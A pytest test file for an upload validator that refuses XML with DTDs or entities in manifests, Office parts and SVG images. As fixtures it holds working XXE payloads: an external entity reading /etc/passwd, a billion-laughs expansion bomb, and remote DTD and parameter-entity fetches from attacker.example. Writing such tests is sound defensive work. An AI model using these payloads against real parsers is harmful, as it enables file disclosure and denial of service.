"""XML from an upload is read one way: no DTD, no entity, no network."""

import io

import pytest

from materials.validation import FileRefused, validate_file
from materials.validation.xml import iter_xml, parse_xml
from tests.materials.files import docx_bytes
from tests.materials.uploads import refused

pytestmark = pytest.mark.django_db

EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<m>&x;</m>"
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY a "ha">'
    + b"".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">'.encode()
        for n in range(9)
    )
    + b"]><m>&j;</m>"
)
REMOTE_DTD = b'<!DOCTYPE m SYSTEM "http://attacker.example/m.dtd"><m/>'
PARAMETER_ENTITY = (
    b'<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><m/>'
)

CASES = {
    "external_entity": (
        EXTERNAL_ENTITY,
        "xml_external_entity",
        "declares an external entity (file:///etc/passwd)",
    ),
    "billion_laughs": (BILLION_LAUGHS, "xml_entity_expansion", "billion laughs"),
    "remote_dtd": (
        REMOTE_DTD,
        "xml_external_dtd",
        "from outside the file (http://attacker.example/m.dtd)",
    ),
    "parameter_entity": (PARAMETER_ENTITY, "xml_external_entity", "external entity"),
    "bare_doctype": (b"<!DOCTYPE m><m/>", "xml_doctype", "(DOCTYPE)"),
    "utf16_doctype": (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE m [<!ENTITY a "x">]>'
        "<m>&a;</m>".encode("utf-16"),
        "xml_entity_expansion",
        "entities",
    ),
}


@pytest.mark.parametrize(("data", "rule", "message"), CASES.values(), ids=list(CASES))
def test_every_declaration_is_refused_naming_what_it_tried(data, rule, message):
    with pytest.raises(FileRefused) as caught:
        parse_xml(data, part="imsmanifest.xml")
    assert caught.value.rule == rule
    assert caught.value.messages[0].startswith("imsmanifest.xml ")
    assert message in caught.value.messages[0]


@pytest.mark.parametrize(("data", "rule", "message"), CASES.values(), ids=list(CASES))
def test_a_streamed_part_is_refused_the_same_way(data, rule, message):
    with pytest.raises(FileRefused) as caught:
        list(iter_xml(lambda: io.BytesIO(data), part="content.xml"))
    assert caught.value.rule == rule


def test_a_document_that_is_not_well_formed_is_refused_with_line_and_column():
    with pytest.raises(FileRefused) as caught:
        parse_xml(b"<manifest>\n  <title>Bai 1</titel>\n</manifest>", part="a.xml")
    assert caught.value.rule == "xml_malformed"
    assert caught.value.messages[0] == (
        "a.xml is not well-formed XML: a closing tag that does not match the "
        "opening tag (line 2, column 17)."
    )


def test_plain_xml_is_read():
    root = parse_xml(b'<?xml version="1.0"?><m a="1"><n>x</n></m>', part="m.xml")
    assert root.find("n").text == "x"


def test_an_office_part_with_an_external_entity_is_refused_and_nothing_stored(
    settings,
):
    document = EXTERNAL_ENTITY.replace(b"<m>&x;</m>", b"<w:document/>")
    data = docx_bytes(["x"], parts={"word/document.xml": document})
    error = refused(settings, data, name="bai.docx")
    assert error.code == "xml_external_entity"
    assert error.messages[0].startswith("word/document.xml declares")


def test_an_svg_image_with_entities_is_refused():
    svg = (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "x">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    )
    with pytest.raises(FileRefused) as caught:
        validate_file(io.BytesIO(svg))
    assert caught.value.rule == "xml_entity_expansion"
    assert caught.value.messages[0].startswith("The SVG image declares")
